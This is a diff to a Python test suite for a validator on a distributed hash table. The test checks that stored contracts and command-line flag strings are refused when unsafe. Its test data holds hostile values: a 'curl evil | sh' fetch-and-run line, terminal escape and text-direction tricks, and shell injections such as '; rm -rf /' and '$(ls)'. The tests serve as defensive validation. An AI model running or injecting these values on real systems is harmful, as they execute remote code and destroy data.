@@ -119,8 +119,8 @@ def test_contracts_are_bounded():
     expiration_time = get_dht_time() + 300
     with run_dhts(validators, make_validators(prefix)[0]) as (writer, reader):
 
-        def store(contract: dict | None) -> bool:
-            record = None if contract is None else {"joined": 1.0, "contract": contract}
+        def store(contract: dict | None, flags: str = "--seed 1 --learning_rate 3e-3 --delay_optimizer_step") -> bool:
+            record = None if contract is None else {"joined": 1.0, "contract": contract, "flags": flags}
             # without the writer's own copy the answer is the reader's
             return writer.store(
                 f"{prefix}_run", record, subkey=subkey, expiration_time=expiration_time, exclude_self=True
@@ -131,6 +131,17 @@ def test_contracts_are_bounded():
         # who joins is shown the terms of others: what a terminal obeys, and what reads like a line of ours
         for contract in ({"a": "64\n run: curl evil | sh"}, {"\x1b[2J": "x"}, {"a": "\u202e46"}):
             assert not store(contract)
+        # what people may paste into a shell
+        for flags in (
+            "; rm -rf /",
+            "--seed 1; ls",
+            "--seed $(ls)",
+            "--seed 1\n--fp16",
+            "--seed 1 2",
+            "--a /home/ada",
+            "ls",
+        ):
+            assert not store({"a": "1"}, flags)
         contract = {f"{i:064d}": "x" * 200 for i in range(32)}
         assert store(contract)
         found = wait_until(lambda: reader.get(f"{prefix}_run", latest=True), 20, "the contract")
